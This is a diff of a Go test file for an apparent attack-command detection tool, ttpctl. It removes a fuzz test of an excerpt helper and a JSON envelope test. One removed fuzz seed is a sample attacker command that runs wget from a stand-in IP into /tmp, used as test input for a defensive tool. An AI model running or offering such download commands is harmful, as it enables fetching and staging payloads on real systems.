@@ -1,19 +1,15 @@
 package main
 
 import (
-	"bytes"
 	"context"
 	"encoding/json"
 	"io"
 	"strings"
 	"testing"
-	"unicode/utf8"
 
 	"ttpctl/internal/attack"
 	"ttpctl/internal/engine"
-	"ttpctl/internal/escape"
 	"ttpctl/internal/event"
-	"ttpctl/internal/report"
 )
 
 func TestLooksLikeEvent(t *testing.T) {
@@ -25,25 +21,6 @@ func TestLooksLikeEvent(t *testing.T) {
 			t.Errorf("looksLikeEvent(%q) = %v, want %v", text, got, want)
 		}
 	}
-}
-
-func FuzzAround(f *testing.F) {
-	f.Add("cd /tmp; wget http://192.0.2.7/x", 9, 13, 40)
-	f.Add(strings.Repeat("\x00", 500)+"match"+strings.Repeat("日本", 500), 500, 505, 30)
-	f.Add(strings.Repeat("e\u0301", 300)+"\xff\x1b[2J", 3, 9, 20)
-	f.Fuzz(func(t *testing.T, text string, start, end, room int) {
-		room = 20 + int(uint(room)%200)
-		start = min(max(start, 0), len(text))
-		end = min(max(end, start), len(text))
-		before, inside, after := around(text, start, end, room)
-		whole := before + inside + after
-		if w := escape.Width(before) + escape.Width(inside) + escape.Width(after); w > room+1 || escape.Terminal(whole) != whole || !utf8.ValidString(whole) {
-			t.Errorf("around(%q, %d, %d, %d) = %q, %q, %q: %d cells", text, start, end, room, before, inside, after, w)
-		}
-		if end > start && inside == "" {
-			t.Errorf("around(%q, %d, %d, %d) shows nothing of the match", text, start, end, room)
-		}
-	})
 }
 
 // explainRules compiles rules with one pattern each on command_text, R0001
@@ -169,38 +146,5 @@ func TestReadExplainInputs(t *testing.T) {
 	}
 	if in, err := read(strings.Repeat("id\n", maxExplainEvents)); err != nil || len(in) != maxExplainEvents {
 		t.Errorf("%d inputs and %v, want %d", len(in), err, maxExplainEvents)
-	}
-}
-
-// TestExplainEnvelope holds the envelope, which is written in pieces, to what
-// a reader of JSON expects of it.
-func TestExplainEnvelope(t *testing.T) {
-	for n := range 3 {
-		var b strings.Builder
-		w := &explainJSON{w: &b, snapshot: newTestExplainer(explainRules(t, "id"), nil).snapshot}
-		for range n {
-			if err := w.write(&explained{explainInput: explainInput{text: `<"inputs": []>`}}); err != nil {
-				t.Fatal(err)
-			}
-		}
-		if err := w.finish(cannotRun("", "wrong")); err != nil {
-			t.Fatal(err)
-		}
-		var got struct {
-			Schema  string
-			Data    struct{ Inputs []struct{ Input string } }
-			Summary struct{ Inputs int }
-			Errors  []report.Problem
-		}
-		if err := json.Unmarshal([]byte(b.String()), &got); err != nil {
-			t.Fatalf("%d inputs: %v in:\n%s", n, err, b.String())
-		}
-		if got.Schema != "ttpctl.explain/v1" || len(got.Data.Inputs) != n || got.Summary.Inputs != n || len(got.Errors) != 1 {
-			t.Errorf("%d inputs: %+v", n, got)
-		}
-		var indented bytes.Buffer
-		if err := json.Indent(&indented, []byte(b.String()), "", "  "); err != nil || indented.String() != b.String() {
-			t.Errorf("%d inputs: not indented throughout (%v):\n%s", n, err, b.String())
-		}
 	}
 }
